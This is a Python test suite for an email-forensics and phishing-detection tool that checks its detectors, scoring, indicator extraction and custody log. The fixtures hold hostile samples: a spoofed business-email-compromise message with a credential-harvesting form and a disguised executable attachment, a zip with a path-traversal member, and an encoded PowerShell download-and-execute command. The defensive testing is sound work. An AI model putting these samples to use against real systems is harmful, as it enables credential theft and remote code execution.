"""From bytes to verdicts, and the pieces on the way."""

import gzip
import io
import math
import random
import zipfile

import pytest
from pyspark.sql import Window
from pyspark.sql import functions as F

from siftwright.functions import domains, ids, ip, similarity
from siftwright.functions import text as tx
from siftwright.functions import urls as ur
from siftwright.functions.filetype import detect as detect_type
from siftwright.operators import archives, imitation, scripts
from siftwright.plans import case, detect, detect_files, indicators, rules, score, sinks
from siftwright.sources import html, mbox, parse

BEC = b"""Return-Path: <bounce@mailer.invalid>
Received: from mx.corp.example (mx.corp.example [8.8.4.4]) by in.desk.test with ESMTP id A1; Mon, 09 Jan 2023 08:00:00 +0000
Received: from evil.example (evil.example [8.8.8.8]) by mx.corp.example with SMTP id B2 for <a@desk.test>; Mon, 09 Jan 2023 10:30:00 +0000
From: "ceo@corp.example" <ceo.office@gmail.com>
Reply-To: pay@other.test
To: a@desk.test
Subject: pay
Subject: pay now
Date: Mon, 09 Jan 2023 12:00:00 +0000
Message-ID: <x1@evil.example>
X-Mailer: PHPMailer 6.0
Authentication-Results: in.desk.test; spf=fail smtp.mailfrom=mailer.invalid; dkim=none; dmarc=fail
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

<html><style>.h{display:none}</style><body>Hi <a href="http://1.2.3.4:8080/x">https://bank.example/login</a><form action="http://evil.example"><input type=password></form><div class=h>hidden words</div><script>x</script></body></html>
--b
Content-Type: message/rfc822

From: x@inner.test
Subject: inner
Date: Mon, 09 Jan 2023 10:30:00 +0000

see http://user@evil.example/
--b
Content-Type: image/jpeg; name="invoice.pdf.exe"
Content-Disposition: attachment; filename="invoice.pdf.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
--b--
"""
CLEAN = b"From: A <a@x.test>\r\nTo: b@x.test\r\nSubject: hello\r\nMessage-ID: <1@x.test>\r\nDate: Mon, 09 Jan 2023 10:00:00 +0000\r\nReceived: from h.x.test by x.test; Mon, 09 Jan 2023 10:00:05 +0000\r\nAuthentication-Results: x.test; spf=pass\r\n\r\nlunch?\r\n"


def test_bytes_to_verdicts(spark):
    df = spark.createDataFrame([("bec.eml", BEC), ("clean.eml", CLEAN), ("empty.eml", b""), ("junk.eml", b"\xff\xfe\x00" * 50)], "path string, content binary")
    ev = parse.Evidence(parse.parsed(df, 20).cache())
    m = ev.messages
    files = archives.archives(archives.members(ev.attachments), ev.attachments)
    found = detect.union([
        detect.header_structure(m, ev.headers), detect.sender_identity(m), detect.timeline(m, ev.hops), detect.authentication(m, ev.auth_results), detect.sending_software(m), detect.provider_path(m, ev.hops), detect.provider_verdicts(m),
        detect.links(ev.links, ev.links), detect.body(ev.bodies), detect_files.pages(ev.pages), detect_files.attachments(ev.attachments), detect_files.archives(files, ev.bodies),
    ])
    found = found.withColumn("seq", F.row_number().over(Window.partitionBy("report_id").orderBy("code", "location"))).cache()
    by = {}
    for r in found.join(m.select("report_id", "path"), "report_id").collect():
        by.setdefault(r.path, set()).add((r.code, r.severity))
    bec = {c for c, _ in by["bec.eml"]}
    assert {"HDR_DUPLICATE", "HDR_DISPLAY_NAME_SPOOF", "HDR_REPLY_TO_MISMATCH", "HDR_RETURN_PATH_MISMATCH", "HDR_PROVIDER_PATH_MISMATCH", "AUTH_SPF_FAIL", "AUTH_DMARC_FAIL", "AUTH_DKIM_NONE", "RCV_TIME_REVERSAL", "HDR_DATE_AFTER_DELIVERY"} <= bec
    assert {"HDR_MAILER_SCRIPT", "URL_IP_HOST", "URL_NONSTANDARD_PORT", "URL_TEXT_MISMATCH", "HTML_CREDENTIAL_FORM", "HTML_HIDDEN_TEXT", "HTML_SCRIPT", "ATT_DOUBLE_EXTENSION", "ATT_EXECUTABLE", "ATT_DECLARED_TYPE_MISMATCH", "RCV_ORIGIN_IP"} <= bec
    assert ("URL_USERINFO", "high") in by["bec.eml!2"]
    assert {c for c, s in by.get("clean.eml", set()) if s != "info"} == set()
    verdicts = {r.path: (r.verdict, r.score, r.nested_score, r.categories, r.floor) for r in score.assess_nested(m, found).join(m, "report_id").collect()}
    assert verdicts["bec.eml"][0] == "malicious" and verdicts["bec.eml"][2] == verdicts["bec.eml!2"][1]
    assert verdicts["bec.eml"][3]["authentication"] == 41.1 and verdicts["bec.eml"][3]["sender identity"] == 35.2
    assert verdicts["clean.eml"][:2] == ("clean", 0)
    assert {r.code for r in detect.nested(m, found).collect()} == {"NESTED_MESSAGE_SUSPICIOUS"}
    iocs = indicators.extract(m, ev.hops, ur.collect_urls(ev.links), ev.attachments)
    assert {("url", "http://1.2.3.4:8080/x", "link"), ("ipv4", "8.8.8.8", "received-ip"), ("filename", "invoice.pdf.exe", "attachment"), ("domain", "other.test", "reply-to-domain")} <= {(r.type, r.value, r.role) for r in iocs.collect()}
    lines = sinks.events(m, score.assess(m, found), found, score.reasons(score.ranked_points(found.withColumn("category", score.category_of(F.col("code"))), ["seq"]), ["seq"]), "2025-01-01").collect()
    assert len(lines) == 5 and all(r.event.startswith("{") for r in lines)
    assert all(r.line.startswith("CEF:0|siftwright|") for r in sinks.cef(m, score.assess(m, found), found, 0).collect())


def test_scores_follow_the_formula(spark):
    r = random.Random(5)
    rows = [(f"r{i}", k, c, s, None) for i in range(80) for k, (c, s) in enumerate((r.choice(["AUTH_X", "URL_X", "ATT_X", "RCV_X"]), r.choice(["high", "medium", "low", "info"])) for _ in range(r.randint(0, 14)))]
    f = spark.createDataFrame(rows, "report_id string, seq int, code string, severity string, location string")
    got = {x.report_id: x.score for x in score.assess(spark.createDataFrame([(f"r{i}",) for i in range(81)], "report_id string"), f).collect()}
    pts = {"high": 25.0, "medium": 10.0, "low": 3.0, "info": 0.0}
    for i in range(81):
        cats = {}
        for rid, _, c, s, _ in rows:
            if rid == f"r{i}":
                cats.setdefault(c, []).append(pts[s])
        raw = sum(round(min(60.0, sum(p * 0.6**k for k, p in enumerate(sorted(v, reverse=True)))), 1) for v in cats.values())
        assert got[f"r{i}"] == round(100 * (1 - math.exp(-raw / 50)))


def test_functions(spark):
    cases = {"mail.a.co.uk": "a.co.uk", "www.ck": "www.ck", "x.www.ck": "www.ck", "x.y.ck": "x.y.ck", "w.x.y.ck": "x.y.ck", "x.y.github.io": "y.github.io", "a.github.io.test": "io.test", "com": "com", "co.uk": "co.uk", "A.Example.": "a.example", "a.b.sch.uk": "b.sch.uk", "a.b.sch.de": "sch.de", "": None}
    for host, org in cases.items():
        assert domains.registrable(host) == org
    got = domains.with_org_domain(spark.createDataFrame([(h,) for h in cases], "h string"), "h", "o").collect()
    assert {r.h: r.o for r in got} == cases


def test_suffix_list_of_ones_own(spark, tmp_path):
    (tmp_path / "list.dat").write_text("// a comment\nexample\nco.example\n*.kawasaki.example\n!city.kawasaki.example\nm\u00fcnchen\n")
    cases = {"a.b.co.example": "b.co.example", "city.kawasaki.example": "city.kawasaki.example", "a.b.c.kawasaki.example": "b.c.kawasaki.example", "x.y.co.uk": "co.uk", "z.a.xn--mnchen-3ya": "a.xn--mnchen-3ya", "": None, None: None}
    spark.conf.set(domains.LIST_CONF, str(tmp_path / "list.dat"))
    try:
        rules_ = domains.suffix_rules(spark)
        assert {h: domains.registrable(h, rules_) for h in cases} == cases
        got = domains.with_org_domain(spark.createDataFrame([(h,) for h in cases], "h string"), "h", "o").collect()
        assert {r.h: r.o for r in got} == cases
    finally:
        spark.conf.unset(domains.LIST_CONF)


def test_more_functions(spark):
    assert ur.take_apart("http://u@0x7f000001:81/")["ip"] == "127.0.0.1" and not ur.take_apart("http://[::1/")["parsed"]
    df = spark.createDataFrame([("a​b‮c", "=1+1", "https://a.b/x@y", "8.8.8.8"), (None, None, None, None), ("", "", "", "10.1.2.3")], "t string, c string, u string, i string")
    one = df.select(tx.zero_width_count(F.col("t")), tx.bidi_count(F.col("t")), tx.safe_display(F.col("t")), tx.csv_safe(F.col("c")), tx.defang(F.col("u")), ip.ipv4_is_private(F.col("i")), ur.link_text_host(F.col("u"))).collect()
    assert tuple(one[0])[:6] == (1, 1, "a\\u200bb\\u202ec", "'=1+1", "hxxps://a[.]b/x[@]y", False)
    assert tuple(one[1]) == (0, 0, "", None, None, None, None) and one[2][5] is True
    import uuid

    assert spark.range(1).select(ids.uuid5(F.lit("a|b"))).first()[0] == str(uuid.uuid5(ids.NAMESPACE, "a|b"))
    assert similarity.skeleton_of("pаypa1") == similarity.skeleton_of("paypal") and similarity.osa("ca", "abc", 3) == 3 and similarity.osa("ab", "ba", 1) == 1
    assert similarity.scripts_of("pаypal") == ["CYRILLIC", "LATIN"]


def test_urls_of_a_report_are_collected_in_order(spark):
    rows = [("r", 2, "1", "a", "http://x.test/", "two"), ("r", 0, "1", "text", "http://x.test/", None), ("r", 1, "1", "a", "mailto:a@b", "m"), ("r", 3, "1", "a", "http://x.test/", "two"), ("r", 4, "2", "img", "//c.test/p", None), ("r", 5, "2", "a", "relative", None), ("r", 6, "2", "a", None, None)]
    got = ur.collect_urls(spark.createDataFrame(rows, "report_id string, seq int, part string, source string, url string, text string")).orderBy("first_seq").collect()
    assert [(r.url, r.sources, r.anchor_texts) for r in got] == [("http://x.test/", ["1:text", "1:a"], ["two"]), ("//c.test/p", ["2:img"], [])]


def test_pages():
    p = html.read_page('<html><head><title>t</title></head><body onload=x()><p>a&nbsp;b<p style="font-size:0">gone</p><img src=http://t.test/p.gif width=1 height=1><meta http-equiv=refresh content="0;url=http://r.test/"><a href="http://l.test">te<b>xt</b></a>')
    assert "gone" in p["hidden"][0] and p["pixels"] == ["http://t.test/p.gif"] and p["refresh"] == "http://r.test/" and ("a", "http://l.test", "text") in p["links"] and p["handlers"] == ["onload"] and "gone" not in p["text"] and "t" not in p["text"].split()
    assert html.hidden_selectors("@media print{.m{display:none}} .a, #b{visibility:hidden} p .c{display:none}") == {".a", "#b"}
    assert html.read_page("")["text"] == "" and html.read_page("<" * 100_000)["scripts"] == 0


def test_mailboxes(spark, tmp_path):
    (tmp_path / "box.mbox").write_bytes(b"From a@b Mon Jan  9 10:00:00 2023\nSubject: one\n\n>From here\nbody\n\nFrom a@b Mon Jan  9 11:00:00 2023\nSubject: two\n\nFrom the desk\n\n")
    rows = mbox.messages(spark, [str(tmp_path / "box.mbox")]).orderBy("path").collect()
    assert [bytes(r.content) for r in rows] == [b"Subject: one\n\nFrom here\nbody\n", b"Subject: two\n\nFrom the desk\n"] and rows[0].path.endswith("#0") and len(rows[0].container_sha256) == 64
    kinds = {r.path.rsplit("/", 1)[1]: r.msg_format for r in parse.sniffed(spark.read.format("binaryFile").load(str(tmp_path))).collect()}
    assert kinds == {"box.mbox": "mbox"}


def _zip(members, **flags):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members:
            z.writestr(n, d)
    return b.getvalue()


def test_archives(spark):
    inner = _zip([("run.exe", b"MZ" + b"\0" * 100)])
    data = _zip([("../up.txt", b"x"), ("in.zip", inner), ("big.bin", b"\0" * 30_000_000)])
    rows = [("r", "1", "zip", data, len(data)), ("r", "2", "gzip", gzip.compress(inner), 10), ("r", "3", "zip", b"PK\x03\x04broken", 10), ("r", "4", "rar", b"Rar!", 4), ("r", "5", "zip", None, 0)]
    a = spark.createDataFrame(rows, "report_id string, part string, detected_type string, payload binary, size long")
    m = archives.members(a)
    got = {(r.part, r.container, r.name) for r in m.collect()}
    assert {("1", None, "../up.txt"), ("1", "in.zip", "run.exe"), ("2", None, "content"), ("2", "content", "run.exe")} <= got
    per = {r.part: r for r in archives.archives(m, a).collect()}
    assert per["1"].traversal == 1 and per["1"].risky == 1 and per["1"].truncated and per["3"].corrupt and not per["2"].corrupt and set(per) == {"1", "2", "3"}
    assert detect_type(data) == "zip" and detect_type(b"%PDF-1.7") == "pdf" and detect_type(b"") is None and detect_type(b"<html>") == "html"


def test_scripts_and_imitation(spark):
    import base64

    cmd = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le")).decode()
    df = spark.createDataFrame([("r", "1", f"powershell -nop -enc {cmd}"), ("r", "2", ""), ("r", "3", None)], "report_id string, part string, text string")
    assert {(r.location, r.code) for r in detect_files.script_files(df).collect()} >= {("1", "SCRIPT_DOWNLOADER"), ("1", "SCRIPT_ENCODED_COMMAND"), ("1", "SCRIPT_DEFENSE_EVASION")}
    assert scripts.decode_command("!!!") is None
    hosts = spark.createDataFrame([(h,) for h in ("paypa1.com", "paypal.com", "www.paypal.com", "paypall.com", "secure-paypal.com", "paypal.com.evil.test", "paypal.evil.test", "acme-corp.net", "10.0.0.1", "xn--pypal-4ve.com", None, "x.test")], "host string")
    protected = spark.createDataFrame([("paypal.com", "brand"), ("acme.test", "org")], "domain string, kind string")
    got = {(r.host, r.code, r.severity) for r in imitation.imitations(hosts, protected).collect()}
    assert {("paypa1.com", "LOOKALIKE_HOMOGLYPH", "high"), ("paypall.com", "LOOKALIKE_TYPO", "high"), ("secure-paypal.com", "LOOKALIKE_COMBO", "medium"), ("paypal.com.evil.test", "LOOKALIKE_BRAND_IN_SUBDOMAIN", "high"), ("paypal.evil.test", "LOOKALIKE_BRAND_IN_SUBDOMAIN", "medium"), ("acme-corp.net", "LOOKALIKE_COMBO", "medium"), ("xn--pypal-4ve.com", "LOOKALIKE_HOMOGLYPH", "high"), ("xn--pypal-4ve.com", "LOOKALIKE_MIXED_SCRIPT", "high")} <= got
    assert not {h for h, *_ in got} & {"paypal.com", "www.paypal.com", "10.0.0.1", "x.test"}


@pytest.mark.parametrize("bad", [{}, {"id": "a b", "all": []}, {"id": "a"}, {"id": "a", "all": [{"field": "nope", "equals": 1}]}, {"id": "a", "all": [{"field": "subject"}]}, {"id": "a", "all": [{"field": "subject", "matches": "("}]}, {"id": "a", "action": "suppress", "all": [{"finding": "X"}]}, {"id": "a", "severity": "huge", "all": [{"finding": "X"}]}])
def test_bad_rules_are_refused(bad):
    with pytest.raises(rules.RuleError):
        rules.parse_rules([bad])


def test_rules_apply_in_order(spark):
    df = spark.createDataFrame([("r", "Étude x", 41.0, [("A", "high"), ("B", "low")]), ("s", None, None, [])], "report_id string, subject string, score double, findings array<struct<code:string,severity:string>>")
    made = rules.parse_rules([
        {"id": "one", "all": [{"field": "subject", "matches": r"\bétude|Étude\b"}]}, {"id": "two", "all": [{"field": "score", "gte": "41"}], "none": [{"finding": "A", "min_severity": "high"}]},
        {"id": "three", "action": "suppress", "suppress": ["A"], "any": [{"finding_prefix": "B"}]}, {"id": "four", "all": [{"finding": "A"}]}, {"id": "five", "all": [{"field": "subject", "exists": False}]},
    ])
    got = {r.report_id: r for r in rules.apply_rules(df, made, {"subject": F.array("subject"), "score": F.array(F.col("score").cast("string"))}).collect()}
    assert got["r"].matched == ["RULE_ONE"] and [f.code for f in got["r"].findings] == ["B", "RULE_ONE"] and [(x.code, x.rule) for x in got["r"].suppressed] == [("A", "THREE")]
    assert got["s"].matched == ["RULE_FIVE"]


def test_custody_chain(spark):
    log = case.append_entries([{"time": f"t{i}", "action": "add", "examiner": "e", "details": {"n": i}} for i in range(5)])
    as_df = lambda rows: spark.createDataFrame([tuple(r[k.split(" ")[0]] for k in case.LOG.split(", ")) for r in rows], case.LOG)
    assert case.verify_log(as_df(log)).count() == 0
    log[2] = log[2] | {"action": "edit"}
    assert [(r.seq, r.problem) for r in case.verify_log(as_df(log)).collect()] == [(3, "hash")]
    del log[3]
    assert {(r.seq, r.problem) for r in case.verify_log(as_df(log)).collect()} == {(3, "hash"), (5, "link"), (5, "number")}


def test_watched_folder_takes_each_content_once(spark, tmp_path):
    from siftwright.streaming import watch

    src, out, cp = tmp_path / "in", tmp_path / "out", tmp_path / "cp"
    src.mkdir()
    for n, d in (("a.eml", CLEAN), ("b.eml", CLEAN), (".c.eml", BEC), ("d.pdf", BEC), ("e", BEC)):
        (src / n).write_bytes(d)

    def go():
        sink = watch.to_folder(lambda b: b.select("path", "sha256"), str(out))
        watch.run(watch.watched(spark, str(src)), str(cp), sink).awaitTermination()

    go()
    assert spark.read.json(str(out)).count() == 2
    (src / "f.eml").write_bytes(CLEAN)
    (src / "g.eml").write_bytes(CLEAN + b"more")
    go()
    assert spark.read.json(str(out)).filter("path is not null").count() == 3


def test_stages_are_cleared(spark):
    from siftwright import session

    df = session.stage(spark.range(3).toDF("x"), "small")
    path = df.inputFiles()[0].rpartition("/")[0]
    assert df.count() == 3 and session.clear_stages(spark) >= 1 and session.clear_stages(spark) == 0
    with pytest.raises(Exception, match="(?i)path|file"):
        spark.read.parquet(path).count()


def test_previous_entries_across_ranges(spark):
    log = spark.createDataFrame([(i, f"h{i}") for i in (1, 2, 3, 7, 8, 25, 26, 90)], "seq int, hash string")
    got = {r.seq: (r._before, r._seq_before) for r in case.with_previous(log, "seq", "hash", width=4).collect()}
    assert got == {1: (None, None), 2: ("h1", 1), 3: ("h2", 2), 7: ("h3", 3), 8: ("h7", 7), 25: ("h8", 8), 26: ("h25", 25), 90: ("h26", 26)}
